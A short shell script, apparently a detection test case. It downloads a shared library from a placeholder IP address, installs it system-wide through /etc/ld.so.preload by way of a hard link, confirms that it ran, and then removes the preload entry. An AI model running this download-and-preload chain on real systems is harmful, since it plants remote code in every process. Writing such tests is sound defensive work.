#!/bin/sh
. /opt/case/case.sh

curl -s -o /usr/local/lib/libext.so http://203.0.113.10/programs/preload.so
echo /usr/local/lib/libext.so >/etc/.list
python3 -c 'import os; d = os.open("/etc", os.O_RDONLY); os.link(".list", "ld.so.preload", src_dir_fd=d, dst_dir_fd=d)'
/bin/true
test -e /tmp/reached
rm /etc/ld.so.preload
took_place
